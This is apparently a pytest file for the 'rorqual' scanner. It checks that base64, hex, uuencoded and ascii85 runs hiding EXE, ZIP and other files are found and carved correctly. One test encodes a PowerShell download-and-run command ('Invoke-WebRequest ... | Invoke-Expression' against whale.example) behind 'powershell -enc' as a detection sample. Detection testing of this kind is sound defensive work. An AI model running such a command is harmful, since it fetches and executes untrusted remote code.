"""Bytes written as text: every alphabet, alignment and form, byte for byte."""

import base64
import binascii
import hashlib
from typing import Any

import pytest

import rorqual
from rorqual.analyzers.formats.encodings.runs import back_start
from rorqual.findings.report import Report
from tests.cases import handed_on

EXE = (
    b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0"
    + bytes(range(256))
    + b"!This program cannot be run in DOS mode."
    + bytes(90)
)
ZIP = b"PK\x03\x04\x14\0\0\0\x08\0" + bytes((i * i >> 1) & 0xFF for i in range(300))
HELD = {"exe": EXE, "zip": ZIP, "pdf": b"%PDF-1.4\n" + ZIP, "gzip": b"\x1f\x8b\x08\0" + ZIP, "html": b"<html>" + ZIP}


def children(report: Report) -> dict[str, str]:
    """SHA-256 of the children, by codec."""
    return {
        child.place[-1][1]: next(one.value for one in child.digests if one.algorithm == "sha256")
        for child in handed_on(report)
        if all(via == "carved" for _, via in child.place[:-1])
    }


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def told(report: Report) -> list[tuple[int, int, str, str, int]]:
    bodies: list[tuple[int, int, Any]] = [(one.offset, one.size, one.body) for one in report.findings("encoded_run")]
    return [(offset, size, body.encoding, body.holds, body.decoded) for offset, size, body in bodies]


@pytest.mark.parametrize("holds", HELD)
@pytest.mark.parametrize("before", [b"", b"x = '", b"\0\1\2", b"text\n\n", b"," * 5000])
@pytest.mark.parametrize("after", [b"", b"'\n", b"\0\0", b"\n\nwords"])
def test_base64_in_a_row(holds: str, before: bytes, after: bytes) -> None:
    data = HELD[holds]
    text = base64.b64encode(data)
    report = rorqual.scan(before + text + after)
    assert told(report) == [(len(before), len(text), "base64", holds, len(text.rstrip(b"=")) * 3 // 4)]
    assert children(report) == {"base64": sha256(data)}
    assert report.complete


@pytest.mark.parametrize("width", [64, 76])
@pytest.mark.parametrize("line", [b"\n", b"\r\n", b"\n    ", b"\\n", b"\\r\\n"])
@pytest.mark.parametrize("size", [100, 2000, 100_000])
def test_base64_in_lines(width: int, line: bytes, size: int) -> None:
    data = (EXE + bytes((i * 7 >> 2) & 0xFF for i in range(size)))[: size + 1]
    text = base64.b64encode(data)
    lines = line.join(text[at : at + width] for at in range(0, len(text), width))
    for before, after in ((b"", b""), (b"Words of some length before: \n\n", b"\n--\n"), (b'"', b'"')):
        report = rorqual.scan(before + lines + after)
        assert children(report)["base64"] == sha256(data)
        assert told(report)[0][:2] == (len(before), len(lines))


@pytest.mark.parametrize("shift", range(6))
def test_base64_of_what_has_something_before(shift: int) -> None:
    data = bytes(range(1, shift + 1)) * 11 + ZIP
    report = rorqual.scan(b"(" + base64.b64encode(data) + b")")
    assert children(report) == {"base64": sha256(data)}


@pytest.mark.parametrize("stray", [b"a", b"ab", b"path/", b"/", b"abc+"])
def test_base64_behind_digits_that_are_none_of_it(stray: bytes) -> None:
    report = rorqual.scan(b"." + stray + base64.b64encode(ZIP))
    (found,) = children(report).values()
    tail = base64.b64decode((stray + base64.b64encode(ZIP))[len(stray) % 4 :] + b"===")
    assert found == sha256(tail)
    assert tail.endswith(ZIP)


def test_base64_of_one_thing_a_line() -> None:
    things = [ZIP + bytes(at) for at in range(5)]
    report = rorqual.scan(b"\n".join(base64.b64encode(one) for one in things) + b"\n")
    found = {digest.value for child in handed_on(report) for digest in child.digests if len(child.place) == 1}
    assert found >= {sha256(one) for one in things}


def test_base64_for_urls_and_in_json() -> None:
    data = EXE + b"\xff\xfe\xfb" * 40
    assert children(rorqual.scan(b"?q=" + base64.urlsafe_b64encode(data) + b"&"))["base64"] == sha256(data)
    escaped = base64.b64encode(data).replace(b"/", b"\\/")
    assert children(rorqual.scan(b'{"a":"' + escaped + b'"}'))["base64"] == sha256(data)


def test_base64_in_utf_16() -> None:
    text = base64.b64encode(EXE).decode().encode("utf-16-le")
    for before in (b"", b"\0", "x = '".encode("utf-16-le")):
        report = rorqual.scan(before + text + b"'\0\xff\xff")
        assert children(report)["base64"] == sha256(EXE)
        assert told(report)[0][:3] == (len(before), len(text), "base64 in UTF-16")


def test_base64_of_utf_16_text() -> None:
    data = "Invoke-WebRequest https://whale.example/ | Invoke-Expression # what feeds it".encode("utf-16-le")
    text = base64.b64encode(data)
    for before in (b"powershell -enc ", b"powershell -EncodedCommand ", b'"', b"FromBase64String('"):
        report = rorqual.scan(before + text + b"\n")
        assert children(report) == {"base64": sha256(data)}
        assert told(report)[0][3] == "UTF-16 text"


@pytest.mark.parametrize("before", [b"data:image/x;base64,", b'atob("', b"base64_decode('", b"b64decode(b'"])
def test_base64_that_its_surroundings_tell_of(before: bytes) -> None:
    data = bytes((i * 37) & 0xFF for i in range(300))
    report = rorqual.scan(before + base64.b64encode(data) + b"')")
    assert children(report) == {"base64": sha256(data)}


def test_base64_of_many_members_is_one_child() -> None:
    data = b"".join(ZIP + bytes(at % 50) for at in range(60))
    report = rorqual.scan(b"'" + base64.b64encode(data) + b"'")
    assert len(told(report)) == 1
    assert children(report) == {"base64": sha256(data)}


@pytest.mark.parametrize("upper", [False, True])
@pytest.mark.parametrize("holds", HELD)
def test_hex_in_a_row(holds: str, upper: bool) -> None:
    data = HELD[holds]
    text = data.hex().encode()
    text = text.upper() if upper else text
    for before, after in ((b"", b""), (b"x='", b"'"), (b"\0", b"\0"), (b"0x", b",")):
        report = rorqual.scan(before + text + after)
        assert children(report) == {"hex": sha256(data)}
        assert told(report) == [(len(before), len(text), "hex", holds, len(data))]


@pytest.mark.parametrize("size", [200, 70_000])
def test_hex_in_other_forms(size: int) -> None:
    data = (EXE * (size // len(EXE) + 1))[:size]
    forms = [
        b"".join(b"\\x%02x" % byte for byte in data),
        b"".join(b"\\x%02X" % byte + (b'"\n  "' if at % 16 == 15 else b"") for at, byte in enumerate(data)),
        b", ".join(b"0x%02X" % byte for byte in data),
        b",".join(b"0x%02x" % byte + (b"\n" if at % 12 == 11 else b"") for at, byte in enumerate(data)),
        b"\n".join(binascii.hexlify(data[at : at + 32]) for at in range(0, size, 32)),
    ]
    for text in forms:
        assert children(rorqual.scan(b'a = "' + text + b'";')) == {"hex": sha256(data)}


@pytest.mark.parametrize("size", [10, 45, 46, 5000, 80_000])
def test_uuencoded(size: int) -> None:
    data = bytes((i * i >> 3) & 0xFF for i in range(size))
    lines = b"".join(binascii.b2a_uu(data[at : at + 45], backtick=True) for at in range(0, size, 45))
    text = b"begin 644 krill.bin\n" + lines + b"`\nend\n"
    report = rorqual.scan(b"words\n" + text + b"words")
    claims = [one for one in report.findings("claim") if not one.place]
    assert [(one.offset, one.size) for one in claims] == [(6, len(text))]
    assert children(report)["uuencode"] == sha256(data)
    file: Any = next(report.findings("uuencoded_file")).body
    assert file.name == "krill.bin"


@pytest.mark.parametrize("size", [60, 5000, 200_000])
def test_ascii85(size: int) -> None:
    data = (EXE * (size // len(EXE) + 1))[:size]
    text = base64.a85encode(data, adobe=True, wrapcol=72)
    report = rorqual.scan(b"\0" + text + b"~")
    assert children(report) == {"ascii85": sha256(data)}
    assert told(report)[0][:2] == (1, len(text))


@pytest.mark.parametrize(
    ("before", "start"),
    [
        (b"", 0),
        (b"abc", 0),
        (b"'abc", 1),
        (b"'abc def", 5),
        (b"'" + b"A" * 64 + b"\n" + b"B" * 64 + b"\n" + b"C" * 9, 1),
        (b"'short\n" + b"B" * 64 + b"\n" + b"C" * 9, 7),
        (b"'words and\n" + b"B" * 64 + b"\n  ", 11),
    ],
)
def test_where_a_run_begins(before: bytes, start: int) -> None:
    assert back_start(before, whole=True, ahead=64 if before.endswith(b" ") else 0) == start


@pytest.mark.parametrize(
    "data",
    [
        b"UEsDB is how it begins, TVqQAAMAAA too, and 4d5a900003000000",
        b"'" + base64.b64encode(EXE)[:40] + b"'",
        b"begin 644 the work\nand end it\n",
        b"<~ no digits ~>",
        b"a;base64,short",
    ],
)
def test_what_is_none(data: bytes) -> None:
    assert not children(rorqual.scan(data))
